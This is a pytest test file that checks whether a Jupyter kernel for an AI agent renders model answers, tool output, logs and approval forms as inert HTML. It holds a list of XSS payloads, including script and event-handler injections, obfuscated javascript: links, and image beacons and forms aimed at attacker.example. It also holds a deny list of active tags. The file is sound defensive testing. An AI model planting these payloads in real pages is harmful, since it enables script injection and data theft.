"""TRUST-1: model text, tool output, file names and job logs never become
active HTML in a notebook output. Attacks every emitting path with the classic XSS
payloads and checks, with a real HTML parser, that what comes out is inert — while
Markdown tables, code blocks and safe links still render, and ``$`` stays literal
unless it is clearly math (docs/kernel.md)."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crystal_kernel.core.events import ApprovalEvent, Note, TextDelta, ToolCallStarted, ToolResultEvent, TurnEnd
from crystal_kernel.core.interaction import ApprovalRequest, PersonDecision, Question, QuestionOption
from crystal_kernel.jupyter import replayed_forms
from crystal_kernel.jupyter.cards import (
    CardState,
    Status,
    card_bundle,
    error_bundle,
    note_bundle,
    status_bundle,
    table_bundle,
)
from crystal_kernel.jupyter.jobs_view import LogView, jobs_table
from crystal_kernel.jupyter.render import RecordingOutput, Renderer
from crystal_kernel.jupyter.safe_html import NO_MATH, clean, markdown_bundle, markdown_html

PAYLOADS = [
    "<img src=x onerror=\"window.__pwned=1\">",
    "<script>window.__pwned=1</script>",
    "<iframe src=\"javascript:window.__pwned=1\"></iframe>",
    "<svg onload=\"window.__pwned=1\"><circle r=1 /></svg>",
    "<a href=\"javascript:window.__pwned=1\">click</a>",
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    "[click](&#106;avascript:window.__pwned=1)",
    "[click](java\tscript:window.__pwned=1)",
    "<javascript:window.__pwned=1>",
    "![x](javascript:window.__pwned=1)",
    "![beacon](https://attacker.example/steal?d=secret)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<style>body{display:none}</style>",
    "<form action=\"https://attacker.example\"><input name=x><button>go</button></form>",
    "<details open ontoggle=\"window.__pwned=1\">x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<<script>script>window.__pwned=1<</script>/script>",
    "<a href=\"java&#x09;script:window.__pwned=1\">x</a>",
    "<object data=\"javascript:window.__pwned=1\"></object><embed src=x>",
    "<base href=\"https://attacker.example/\"><meta http-equiv=refresh content=\"0;url=javascript:1\">",
    "<div style=\"background:url(javascript:window.__pwned=1)\">x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%\">fake approval form</p>",
    "```\n</code></pre><img src=x onerror=window.__pwned=1>\n```",
    "`<img src=x onerror=window.__pwned=1>`",
]

ACTIVE_TAGS = {"script", "iframe", "svg", "math", "style", "object", "embed", "form", "input", "button",
               "img", "link", "meta", "base", "frame", "frameset", "textarea", "select", "video", "audio"}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag} has event handler {name}")
            squashed = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in ("href", "src", "action", "formaction", "data", "xlink:href") and \
                    re.match(r"(javascript|vbscript|data):", squashed):
                self.problems.append(f"{tag} {name}={value!r}")
            if name == "style" and ("url(" in squashed or "expression" in squashed or "position" in squashed):
                self.problems.append(f"{tag} style={value!r}")


def assert_inert(html: str) -> None:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.problems, (inspector.problems, html)


def assert_bundle_inert(bundle: dict) -> None:
    assert "text/markdown" not in bundle, "a front would trust raw Markdown's HTML"
    if "text/html" in bundle:
        assert_inert(bundle["text/html"])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_trust1_answer_markdown_is_inert(payload):
    """TRUST-1: a model answer holding an XSS payload renders as inert HTML."""
    bundle = markdown_bundle(f"Here you go:\n\n{payload}\n\nand inline {payload} too.")
    assert_bundle_inert(bundle)
    assert bundle["text/plain"].startswith("Here you go:")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_trust1_raw_html_from_the_model_is_shown_as_text(payload):
    """TRUST-1: raw HTML is text the person can read, not markup."""
    html = markdown_html(payload)
    if payload.startswith("<") and not payload.startswith("<javascript"):
        assert "&lt;" in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_trust1_clean_removes_active_content_from_raw_html(payload):
    """TRUST-1: the sanitizer itself, given raw HTML (defence in depth for every card)."""
    assert_inert(clean(payload))


def test_trust1_markdown_still_renders_tables_code_and_safe_links():
    text = ("| tool | result |\n| --- | --- |\n| bash | ok |\n\n"
            "```python\nprint('<b>hi</b>')\n```\n\n"
            "See [the docs](https://example.org/docs) and **bold** `code`.")
    html = markdown_html(text)
    # Table cells are left-aligned, as JupyterLab's Markdown tables are.
    assert "<table>" in html and '<th style="text-align:left">tool</th>' in html
    assert '<td style="text-align:left">ok</td>' in html
    code = re.search(r'<pre class="crystal-code" data-lang="python"[^>]*><code[^>]*>(.*?)</code></pre>', html, re.S)
    assert code and unescape(re.sub(r"<span[^>]*>|</span>", "", code.group(1))) == "print('<b>hi</b>')\n"
    assert "<b>" not in html
    assert re.search(r'<a href="https://example.org/docs" rel="[^"]*noopener[^"]*">the docs</a>', html)
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html


def test_trust1_markdown_images_become_links_so_showing_an_answer_fetches_nothing():
    html = markdown_html("![chart](https://attacker.example/x.png?leak=1)")
    assert "<img" not in html
    assert '<a href="https://attacker.example/x.png?leak=1"' in html and "[image: chart]" in html


@pytest.mark.parametrize("text, math", [
    ("It costs $12k, or $5k a month.", []),
    ("Set $VAR and $HOME/bin first.", []),
    ("Run `echo $(date)` then $PATH/$HOME.", []),
    ("between $5 and $10", []),
    ("the square $x^2$ grows", ["$x^2$"]),
    ("Euler: $$e^{i\\pi}+1=0$$ holds", ["$$e^{i\\pi}+1=0$$"]),
    ("$$\n\\int_0^1 x\\,dx\n$$", ["$$\\int_0^1 x\\,dx$$"]),
])
def test_dollar_is_literal_unless_clearly_math(text, math):
    """Amounts and variables stay literal; only clear math is typeset."""
    html = markdown_html(text)
    assert NO_MATH in html
    found = re.findall(r'class="tex2jax_process mathjax_process crystal-math">(.*?)</(?:span|div)>', html, re.S)
    assert found == math, html


def test_trust1_every_card_path_is_inert_and_not_math():
    bad = PAYLOADS[0] + " $HOME $(id)"
    for state in ("running", "waiting", "denied", "done", "failed", "cancelled"):
        for display in ("text", "diff", "terminal"):
            card = CardState(id="c1", name=f"tool{bad}", arguments={"command": bad, "path": bad, "x": bad},
                             state=state, approval=f"Denied by you: {bad}", result=f"+{bad}\n-{bad}\n{bad}",
                             display=display, images=1)
            bundle = card_bundle(card)
            assert_bundle_inert(bundle)
            assert NO_MATH in bundle["text/html"]
    for bundle in (note_bundle(bad), error_bundle(bad), table_bundle(["a", bad], [[bad, bad]], title=bad),
                   status_bundle(Status(bad, bad, bad, bad, bad, 1))):
        assert_bundle_inert(bundle)
        assert NO_MATH in bundle["text/html"]


def test_trust1_jobs_table_and_log_view_are_inert():
    bad = "<img src=x onerror=window.__pwned=1> $(seq 1 3)"
    info = SimpleNamespace(id="j1", state="running", exit_code=None, signal=None, command=bad,
                           runtime_seconds=1.0, active=True)
    bundle = jobs_table([info])
    assert_bundle_inert(bundle)
    assert NO_MATH in bundle["text/html"]
    manager = SimpleNamespace(status=lambda job_id: info,
                              logs=lambda job_id, offset=0: SimpleNamespace(next_offset=10, start=0, text=bad + "\n",
                                                                            remaining=0))
    view = LogView(manager, "j1", RecordingOutput())
    bundle = view.bundle()
    assert_bundle_inert(bundle)
    assert NO_MATH in bundle["text/html"] and "&lt;img" in bundle["text/html"]


def test_trust1_renderer_turn_with_payloads_emits_only_inert_outputs():
    out = RecordingOutput()
    r = Renderer(out, max_rate=1000)
    r.start(None)
    for payload in PAYLOADS:
        r.render(TextDelta(text=payload + "\n\n"))
    r.render(ToolCallStarted(id="t1", name="bash", arguments={"command": PAYLOADS[0]}))
    r.render(ApprovalEvent(id="t1", name="bash", outcome="deny", by="person", reason=PAYLOADS[1]))
    r.render(ToolResultEvent(id="t1", name="bash", ok=False, text=PAYLOADS[2]))
    r.render(Note(text=PAYLOADS[3]))
    r.render(TurnEnd(session_id="s", stop_reason="end_turn"))
    r.close()
    assert out.outputs
    for bundle in out.outputs:
        assert_bundle_inert(bundle)


def test_trust1_forms_and_replayed_answers_are_inert():
    pytest.importorskip("ipywidgets")
    from crystal_kernel.jupyter.widgets import ApprovalForm, QuestionForm

    bad = PAYLOADS[0] + " $HOME"
    question = Question(header=bad, question=bad, options=[QuestionOption(label=bad, description=bad)])
    request = ApprovalRequest(call_id="c1", tool="bash", arguments={"command": bad}, risk="high",
                              authority="person", verdict={"risk_level": bad, "rationale": bad})
    form = ApprovalForm(request, lambda d: None)
    assert_inert(form.request_html())
    for decision in (PersonDecision(outcome="allow_once"), PersonDecision(outcome="deny", reason=bad), None):
        assert_bundle_inert(form.summary_bundle(decision, note=bad))
    assert_bundle_inert(replayed_forms.approval_bundle(request, PersonDecision(outcome="deny", reason=bad)))
    qform = QuestionForm([question], lambda a: None)
    assert_bundle_inert(qform.summary_bundle([[bad]]))
    assert_bundle_inert(replayed_forms.questions_bundle([question], [[bad]]))
    assert_bundle_inert(replayed_forms.questions_bundle([question], None))


_FRAGMENTS = st.sampled_from(["<", ">", "img", "script", " src=x", " onerror=", "\"", "'", "javascript:", "[", "]",
                              "(", ")", "!", "`", "```", "\n", "|", "-", "&#", "x09;", "$", "svg", "a href=", "/",
                              "=", "alert(1)", "*", "_", "\\", ":", " "])


@settings(max_examples=300, deadline=None)
@given(st.lists(_FRAGMENTS, max_size=40).map("".join))
def test_trust1_fuzzed_markdown_never_yields_active_html(text):
    assert_inert(markdown_html(text))
    assert_inert(clean(text))


def test_allowed_once_line_shows_the_command_as_code_not_math():
    """The approval summary's command is code inside a MathJax-ignored box."""
    pytest.importorskip("ipywidgets")
    from crystal_kernel.jupyter.widgets import ApprovalForm

    request = ApprovalRequest(call_id="c1", tool="bash", arguments={"command": "echo $(date) $HOME"},
                              risk="high", authority="person")
    html = ApprovalForm(request, lambda d: None).summary_bundle(PersonDecision(outcome="allow_once"))["text/html"]
    assert NO_MATH in html and "Allowed once: <code>bash echo $(date) $HOME</code>" in html


def test_trust1_streamed_answer_updates_rebuild_only_sanitized_html_and_the_final_is_inert():
    """With the lab extension's streamed answers (render.py, stream_html.py), every live
    update of a payload answer, split at every few characters so a payload spans
    updates, and what a reloaded page gets again, rebuilds HTML that is the kernel's
    sanitized rendering of the text so far (inert), never raw Markdown; the final output
    is the sanitized rendering, inert."""
    from crystal_kernel.jupyter.stream_html import STREAM_MIME, apply_update

    out = RecordingOutput(deltas=True)
    now = [0.0]
    r = Renderer(out, max_rate=1000, clock=lambda: now[0])
    r.start(None)
    text = "".join(payload + "\n\n" for payload in PAYLOADS * 2)
    for at in range(0, len(text), 7):
        now[0] += 0.3  # past the update interval: each piece goes out in its own update
        r.render(TextDelta(text=text[at:at + 7]))
    r.render(TurnEnd(session_id="s", stop_reason="end_turn"))
    r.close()
    live, final = out.sent[:-1], out.sent[-1]
    assert len(live) > len(PAYLOADS)
    html = ""
    for bundle in live:
        assert set(bundle) == {STREAM_MIME, "text/plain"}, bundle.keys()
        assert "<" not in bundle["text/plain"]
        rebuilt = apply_update(html, bundle[STREAM_MIME])
        assert rebuilt is not None
        assert_inert(rebuilt)
        html = rebuilt
    for kept in out.kept:  # what a reloaded page gets again: the whole HTML so far
        if kept is not None:
            assert kept[STREAM_MIME]["at"] == 0
            assert_inert(kept[STREAM_MIME]["html"])
    # A piece that does not fit what the page has (it missed an update) rebuilds
    # nothing (the page keeps what it shows): no part of one HTML glued to another.
    assert apply_update(html.replace("pwned", "pwneX", 1), live[-1][STREAM_MIME]) is None
    assert apply_update(html[:10], live[-1][STREAM_MIME]) is None
    assert_bundle_inert(final)
    assert "crystal-answer" in final["text/html"] and final["text/html"] == html


CODE_PAYLOADS = ['</span><img src=x onerror="window.__pwned=1">', '"></code></pre><script>alert(1)</script>',
                 "<!-- x --><svg onload=alert(1)>", "' style=\"background:url(http://evil)\" x='"]


@pytest.mark.parametrize("lang", ["python", "html", "javascript", "bash", "css", "unknown-lang", ""])
def test_trust1_highlighted_code_is_the_code_as_text(lang):
    """Syntax colours add only coloured spans: the code block's text is
    the code, markup in it stays text, and no span carries anything but a colour."""
    code = "\n".join(f"x = {p!r}  # {p}" for p in CODE_PAYLOADS) + "\n"
    html = markdown_html(f"```{lang}\n{code}```\n")
    body = re.search(r"<code[^>]*>(.*)</code></pre>", html, re.S)
    assert body, html
    spans = re.findall(r"<span[^>]*>", body.group(1))
    assert all(re.fullmatch(r'<span style="color:var\(--jp-mirror-editor-[a-z0-9-]+-color, #[0-9a-f]{6}\)">', s)
               for s in spans), spans
    assert unescape(re.sub(r"<span[^>]*>|</span>", "", body.group(1))) == code
    assert not re.search(r"<(?!/?(span|code|pre)\b)[a-z]", body.group(1)), "no other element in the code"
    if lang in ("python", "javascript"):
        assert spans, "a known language is coloured"
